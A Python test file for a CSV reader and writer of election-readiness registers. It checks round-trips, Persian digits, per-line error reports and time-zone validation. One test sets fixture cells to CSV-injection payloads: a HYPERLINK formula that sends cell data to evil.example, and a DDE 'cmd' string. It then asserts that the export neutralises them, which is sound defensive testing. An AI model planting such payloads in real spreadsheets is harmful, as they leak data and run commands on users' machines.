"""The readiness registers' CSV: written and read back alike, every bad cell named by line."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest

from sandogh.core.definition.problems import Problem
from sandogh.core.readiness import Box, Register, UpdateStatus
from sandogh.formats.readiness_csv import (
    ReadinessCsvError,
    read_register,
    row_problems,
    write_register,
)
from sandogh.formats.tally_csv import RowProblem

from ..core.readiness.kerman import registers

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("register", list(Register))
def test_each_register_reads_back_as_written(register: Register) -> None:
    rows = registers().rows(register)
    out = io.StringIO()
    assert write_register(register, rows, out) == len(rows)
    # a box's update is written for people and read as pending: derived, never typed in
    read = tuple(
        dataclasses.replace(r, update=UpdateStatus.PENDING) if isinstance(r, Box) else r
        for r in rows
    )
    assert read_register(register, io.StringIO(out.getvalue()), source_name="x") == read


def test_persian_digits_and_every_problem_with_line_and_column() -> None:
    text = "\ufeffstation,role,assigned,trained,extra\nST-0801-0001,head,۱,۱,\n"
    with pytest.raises(ReadinessCsvError) as bad:
        read_register(Register.STAFF, io.StringIO(text), source_name="staff.csv")
    assert bad.value.problems == (RowProblem(1, "extra", bad.value.problems[0].message),)
    text = "station,role,assigned,trained\nST-0801-0001,head,۱,۱\nS,chief,-1,1\n"
    with pytest.raises(ReadinessCsvError) as bad:
        read_register(Register.STAFF, io.StringIO(text), source_name="staff.csv")
    assert [(p.line, p.column) for p in bad.value.problems] == [(3, "role"), (3, "assigned")]


def test_a_box_seen_without_a_time_zone_is_refused() -> None:
    text = "serial,model,software,update,place,last_seen\nB1,SE-3,4.2,current,IR,2024-07-05T08:00\n"
    with pytest.raises(ReadinessCsvError, match="line 2, column last_seen: needs a time zone"):
        read_register(Register.FLEET, io.StringIO(text), source_name="fleet.csv")


def test_problems_of_the_use_cases_are_placed_on_their_lines() -> None:
    placed = row_problems([Problem("papers[3].used", "9 used of 4"), Problem("unit", "unknown")])
    assert placed == [RowProblem(5, "used", "9 used of 4"), RowProblem(0, None, "unit: unknown")]


def test_a_formula_in_a_register_is_exported_as_text_and_read_back_as_it_was() -> None:
    # OWASP CSV injection: a box's model `=HYPERLINK(…)` became a live link in the exported sheet.
    fleet = tuple(
        dataclasses.replace(
            box,
            serial=f"{first}SB-{i}",
            model=f'{first}HYPERLINK("http://evil.example/?"&A1,"SE-3")',
            software=f"{first}cmd|' /C calc'!A0",
        )
        for i, (box, first) in enumerate(zip(registers().fleet, DANGEROUS, strict=False))
    )
    out = io.StringIO()
    write_register(Register.FLEET, fleet, out)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert not [cell for cell in cells if cell.startswith(DANGEROUS)]
    # the `update` column is written but not read: a box's update is the build it attests
    read = read_register(Register.FLEET, io.StringIO(out.getvalue()), source_name="x")
    assert read == tuple(dataclasses.replace(box, update=UpdateStatus.PENDING) for box in fleet)
